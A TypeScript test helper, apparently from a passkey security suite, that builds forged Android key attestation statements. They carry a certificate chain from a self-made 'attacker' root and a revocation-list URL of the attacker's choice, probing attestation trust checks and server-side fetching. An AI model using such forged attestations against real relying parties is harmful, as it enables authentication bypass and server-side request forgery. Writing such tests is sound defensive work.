import { generateKeyPairSync, type KeyObject, sign } from 'node:crypto';
import { type Made, word } from './passkeys.ts';

/** Encodes a value in DER. */
function der(tag: number, ...parts: readonly Buffer[]): Buffer {
  const value = Buffer.concat(parts);
  const length = value.length < 128 ? [value.length] : [0x82, value.length >> 8, value.length & 255];
  return Buffer.concat([Buffer.from([tag, ...length]), value]);
}
const sequence = (...parts: readonly Buffer[]) => der(0x30, ...parts);
const integer = (value: number) => der(0x02, Buffer.from([value]));
const object = (hex: string) => der(0x06, Buffer.from(hex, 'hex'));
const text = (tag: number, value: string) => der(tag, Buffer.from(value));
const name = (value: string) => sequence(der(0x31, sequence(object('550403'), text(0x0c, value))));

const ECDSA_SHA256 = sequence(object('2a8648ce3d040302'));

interface Subject {
  readonly issuer: string;
  readonly subject: string;
  readonly key: KeyObject;
  readonly extensions: readonly Buffer[];
}

function certificate({ issuer, subject, key, extensions }: Subject, by: KeyObject): Buffer {
  const year = (value: number) => text(0x18, `${value}0101000000Z`);
  const body = sequence(
    der(0xa0, integer(2)),
    integer(1),
    ECDSA_SHA256,
    name(issuer),
    sequence(year(2000), year(2100)),
    name(subject),
    key.export({ type: 'spki', format: 'der' }),
    ...(extensions.length > 0 ? [der(0xa3, sequence(...extensions))] : []),
  );
  return sequence(body, ECDSA_SHA256, der(0x03, Buffer.from([0]), sign('sha256', body, by)));
}

/** A list of revoked certificates at an address (RFC 5280, 4.2.1.13). */
const revokedAt = (url: string) =>
  sequence(object('551d1f'), der(0x04, sequence(sequence(der(0xa0, der(0xa0, text(0x86, url)))))));

/** What Android says of a key, with the hash of what it is for. */
function keyDescription(hash: Buffer): Buffer {
  const level = der(0x0a, Buffer.from([0]));
  const said = sequence(integer(1), level, integer(1), level, der(0x04, hash), der(0x04), sequence(), sequence());
  return sequence(object('2b06010401d679020111'), der(0x04, said));
}

/** Encodes 256 bytes or more in CBOR. */
const bytes = (value: Buffer) => Buffer.concat([Buffer.from([0x59, value.length >> 8, value.length & 255]), value]);

/**
 * Makes a statement in Android's format whose certificates come from an authority of the attacker's, and name an address of
 * the attacker's choice.
 */
export function androidStatement(url: string): (made: Made) => { readonly format: string; readonly says: Buffer } {
  return ({ publicKey, clientDataHash }) => {
    const authority = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    const root = { issuer: 'root', subject: 'root', key: authority.publicKey, extensions: [] };
    const leaf = {
      issuer: 'root',
      subject: 'leaf',
      key: publicKey,
      extensions: [revokedAt(url), keyDescription(clientDataHash)],
    };
    const chain = [leaf, root].map((one) => bytes(certificate(one, authority.privateKey)));
    const says = [
      Buffer.from([0xa3]),
      word('alg'),
      Buffer.from([0x26]),
      word('sig'),
      bytes(Buffer.alloc(256)),
      word('x5c'),
    ];
    return { format: 'android-key', says: Buffer.concat([...says, Buffer.from([0x82]), ...chain]) };
  };
}
